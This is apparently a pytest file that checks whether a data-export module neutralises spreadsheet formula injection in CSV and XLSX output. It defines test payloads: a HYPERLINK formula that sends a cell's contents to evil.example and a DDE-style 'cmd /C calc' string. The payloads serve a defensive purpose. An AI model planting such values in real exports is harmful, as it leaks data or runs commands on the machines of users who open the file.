"""Exports never hand a spreadsheet a formula to run, and values that look like formulas (or phone
numbers starting with "+") still survive export → import → export exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlalchemy.orm import Session, sessionmaker

from expertbridge.db.dialect import dialect_of
from expertbridge.db.models import Base
from expertbridge.ingest.export import export_rows
from expertbridge.ingest.importer import Importer, ImportOptions
from expertbridge.ingest.tables import protect_csv_cell, unprotect_csv_cell
from tests.helpers import RUSSIAN_EXPERT, exported

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
TRICKY = {
    "organization": FORMULA,
    "phone": "+7 495 111-22-33",
    "bio_ru": "-",
    "bio_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bio_zh": "'-",
}
EXPERT = {**RUSSIAN_EXPERT, **TRICKY}
# Every character that makes a spreadsheet read a cell as a formula (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+7 495 111-22-33", "-", "@x", "\tx", "\rx", "'", "''", "'-", "''=1", "'quoted'", "", "Иванов"],
)
def test_a_protected_csv_cell_reads_back_as_written(value: str) -> None:
    protected = protect_csv_cell(value)
    assert not protected.startswith(TRIGGERS)
    assert unprotect_csv_cell(protected) == value


def _input(data_dir: Path) -> Path:
    # JSON, so that the values arrive exactly as typed (a CSV cell "'-" means "-", as in Excel).
    path = data_dir / "in.json"
    path.write_text(json.dumps([EXPERT], ensure_ascii=False), encoding="utf-8")
    return path


def _import(factory: sessionmaker[Session], path: Path) -> None:
    report = Importer(factory, ImportOptions()).run("experts", path)
    assert not report.issues, report.issues[:3]


def _exported_values(factory: sessionmaker[Session]) -> dict[str, str]:
    with factory() as session:
        _columns, rows = export_rows(session, "experts")
        (row,) = list(rows)
    return {column: row[column] for column in TRICKY}


def _empty(engine: Engine) -> None:
    tables = [t for t in Base.metadata.sorted_tables if t.name not in ("sectors", "alembic_version")]
    with engine.begin() as connection:
        dialect_of(connection).empty_tables(connection, tables)


def test_the_csv_export_marks_formulas_as_text(factory: sessionmaker[Session], data_dir: Path) -> None:
    _import(factory, _input(data_dir))
    text = exported(factory, "experts", "csv").decode("utf-8")
    cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
    assert FORMULA not in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert "'" + FORMULA in cells and "'+7 495 111-22-33" in cells


def test_the_xlsx_export_writes_every_value_as_a_text_cell(
    factory: sessionmaker[Session], data_dir: Path
) -> None:
    _import(factory, _input(data_dir))
    sheet = load_workbook(io.BytesIO(exported(factory, "experts", "xlsx"))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert FORMULA in [cell.value for cell in cells]


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "json"])
def test_formula_like_values_survive_export_and_import(
    engine: Engine, factory: sessionmaker[Session], data_dir: Path, file_format: str
) -> None:
    _import(factory, _input(data_dir))
    assert _exported_values(factory) == TRICKY
    first = exported(factory, "experts", file_format)
    _empty(engine)
    path = data_dir / f"experts.{file_format}"
    path.write_bytes(first)
    _import(factory, path)
    assert _exported_values(factory) == TRICKY
    if file_format != "xlsx":
        assert exported(factory, "experts", file_format) == first
